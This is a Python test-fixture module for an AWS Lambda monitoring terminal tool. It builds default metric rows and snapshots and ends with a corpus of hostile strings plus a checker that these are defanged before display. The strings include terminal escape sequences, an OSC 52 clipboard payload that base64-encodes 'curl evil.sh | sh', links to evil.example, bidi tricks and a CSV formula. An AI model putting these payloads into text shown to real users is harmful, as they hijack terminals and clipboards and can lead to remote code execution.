"""Builders for model objects in tests: a healthy default you override field by field.

    row = make_row("orders-api", errors=120)           # a function with 12 % errors
    snap = make_snapshot([row], sources=ok_sources())  # every source fresh, 14 s old

Also a corpus of hostile AWS text (`HOSTILE_TEXTS`) and `assert_terminal_safe`, for any test that
shows AWS-originated strings.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from datetime import UTC, datetime, timedelta
from typing import Any

from lambdatop.model.snapshot import (
    SOURCE_NAMES,
    AliasRow,
    DlqKind,
    FleetSnapshot,
    FunctionRow,
    QueueRow,
    RegionSummary,
    SourceStatus,
)

NOW = datetime(2026, 11, 23, 3, 0, tzinfo=UTC)
ACCOUNT = "123456789012"
REGION = "us-east-1"


def function_arn(name: str, *, account: str = ACCOUNT, region: str = REGION) -> str:
    return f"arn:aws:lambda:{region}:{account}:function:{name}"


def queue_arn(name: str, *, account: str = ACCOUNT, region: str = REGION) -> str:
    return f"arn:aws:sqs:{region}:{account}:{name}"


def make_row(name: str = "orders-api", **overrides: Any) -> FunctionRow:
    """A healthy, busy function: 1,000 invocations, no errors, 1 % cold starts."""
    account = overrides.get("account_id", ACCOUNT)
    region = overrides.get("region", REGION)
    fields: dict[str, Any] = {
        "arn": function_arn(name, account=account, region=region),
        "name": name,
        "account_id": account,
        "region": region,
        "runtime": "python3.12",
        "architecture": "arm64",
        "memory_mb": 256,
        "timeout_s": 30,
        "log_group": f"/aws/lambda/{name}",
        "invocations": 1000,
        "errors": 0,
        "throttles": 0,
        "concurrency_max": 12.0,
        "duration_avg_ms": 120.0,
        "duration_p99_ms": 480.0,
        "iterator_age_max_ms": None,
        "async_events_dropped": 0,
        "reports": 1000,
        "cold_starts": 10,
        "restores": 0,
        "init_avg_ms": 310.0,
        "init_p50_ms": 290.0,
        "init_p99_ms": 650.0,
        "init_max_ms": 910.0,
        "metrics_at": NOW,
        "logs_at": NOW,
    }
    fields.update(overrides)
    return FunctionRow(**fields)


UNKNOWN_METRICS: dict[str, Any] = {
    "invocations": None,
    "errors": None,
    "throttles": None,
    "concurrency_max": None,
    "duration_avg_ms": None,
    "duration_p99_ms": None,
    "async_events_dropped": None,
    "reports": None,
    "cold_starts": None,
    "restores": None,
    "init_avg_ms": None,
    "init_p50_ms": None,
    "init_p99_ms": None,
    "init_max_ms": None,
    "metrics_at": None,
    "logs_at": None,
}


def make_unknown_row(name: str = "mystery", **overrides: Any) -> FunctionRow:
    """A function known from the inventory whose numbers were never fetched."""
    return make_row(name, **{**UNKNOWN_METRICS, **overrides})


def make_queue(
    name: str = "orders-dlq",
    *,
    kind: DlqKind = "dead-letter",
    depth: int | None = 0,
    oldest_age_s: float | None = None,
) -> QueueRow:
    return QueueRow(arn=queue_arn(name), kind=kind, depth=depth, oldest_age_s=oldest_age_s)


def make_alias(name: str = "live", version: str = "1", weights: Mapping[str, float] | None = None) -> AliasRow:
    return AliasRow(name=name, version=version, weights=dict(weights or {}))


def make_region(**overrides: Any) -> RegionSummary:
    fields: dict[str, Any] = {
        "account_id": ACCOUNT,
        "region": REGION,
        "concurrency_limit": 1000,
        "unreserved_concurrency_limit": 900,
        "concurrent_executions_max": 150.0,
        "claimed_account_concurrency_max": 250.0,
    }
    fields.update(overrides)
    return RegionSummary(**fields)


def ok_sources(now: datetime = NOW, *, age_s: float = 14) -> dict[str, SourceStatus]:
    """Every source answered `age_s` seconds before `now`."""
    at = now - timedelta(seconds=age_s)
    return {name: SourceStatus(name=name, ok=True, updated_at=at) for name in SOURCE_NAMES}


def stale_source(
    name: str, *, now: datetime = NOW, age_s: float | None = 180, error: str | None = None
) -> SourceStatus:
    """A source whose last answer is `age_s` old (None: never answered), failing with `error`."""
    at = None if age_s is None else now - timedelta(seconds=age_s)
    return SourceStatus(name=name, ok=False, updated_at=at, stale_since=at, error=error)


def make_snapshot(functions: Iterable[FunctionRow] = (), **overrides: Any) -> FleetSnapshot:
    """A snapshot at NOW over 15 minutes, one region, every source fresh."""
    fields: dict[str, Any] = {
        "generated_at": NOW,
        "window_minutes": 15,
        "regions": (make_region(),),
        "functions": tuple(functions),
        "sources": ok_sources(overrides.get("generated_at", NOW)),
        "api_calls": {"cloudwatch:GetMetricData": 2, "lambda:ListFunctions": 1},
        "estimated_cost_usd": 0.0012,
    }
    fields.update(overrides)
    return FleetSnapshot(**fields)


# --- hostile text --------------------------------------------------------------------------------

# Strings an attacker can put in a function name (via tags and aliases where names are strict),
# a tag value, an error message or a log line. Each must reach the terminal defanged.
HOSTILE_TEXTS: dict[str, str] = {
    "csi colour": "\x1b[31;1mred\x1b[0m",
    "csi cursor and clear": "ok\x1b[2J\x1b[H\x1b[1;1Hhome",
    "osc 52 clipboard (BEL)": "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y",
    "osc 52 clipboard (ST)": "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\y",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "osc title unterminated": "name\x1b]0;pwned",
    "dcs string": "a\x1bPq#0;2;0;0;0\x1b\\b",
    "8-bit csi": "a\x9b31mb",
    "8-bit osc": "a\x9d52;c;AAAA\x9cb",
    "charset switch": "a\x1b(0lqk\x1b(Bb",
    "lone esc": "trailing\x1b",
    "rich markup": "[bold red]x[/]",
    "rich link markup": "[link=https://evil.example]click[/link]",
    "emoji code": ":fire: prod",
    "bidi override": "live\u202eesrever",
    "bidi isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "nul": "orders\x00api",
    "bell and backspace": "ding\x07\x08\x08oops",
    "del and c1": "a\x7fb\x85c\x9fd",
    "newlines": "line1\nline2\r\nline3\rline4",
    "unicode line separators": "a\u2028b\u2029c",
    "zero width": "ord\u200bers\u2060-api\ufeff",
    "zwj next to ascii": "orders\u200d-api",
    "tag characters": "ok\U000e0041\U000e0042",
    "lone surrogate": "bad\ud800text",
    "hangul filler": "\u3164\u3164",
    "zalgo": "z" + "\u0300\u0301\u0302\u0303\u0304" * 20 + "algo",
    "csv formula": '=HYPERLINK("https://evil.example","x")',
}

# Characters that must never appear in any rendered output.
FORBIDDEN_CHARS = frozenset(
    [chr(c) for c in range(0x00, 0x20) if chr(c) != "\n"]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e"]
    + ["\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"]
    + ["\u200b", "\u2060", "\ufeff", "\u2028", "\u2029", "\ud800", "\u3164", "\u115f", "\uffa0"]
)


def assert_terminal_safe(text: str) -> None:
    """Fail if `text` holds a control, escape, bidi or invisible character (newlines allowed)."""
    found = sorted({f"U+{ord(ch):04X}" for ch in text if ch in FORBIDDEN_CHARS})
    assert not found, f"unsafe characters reached the output: {', '.join(found)}"
    assert "52;c;" not in text, "an OSC 52 clipboard payload reached the output"
    assert "evil.example\x07" not in text
    assert "\u0302\u0303\u0304" not in text, "a pile of combining marks reached the output"
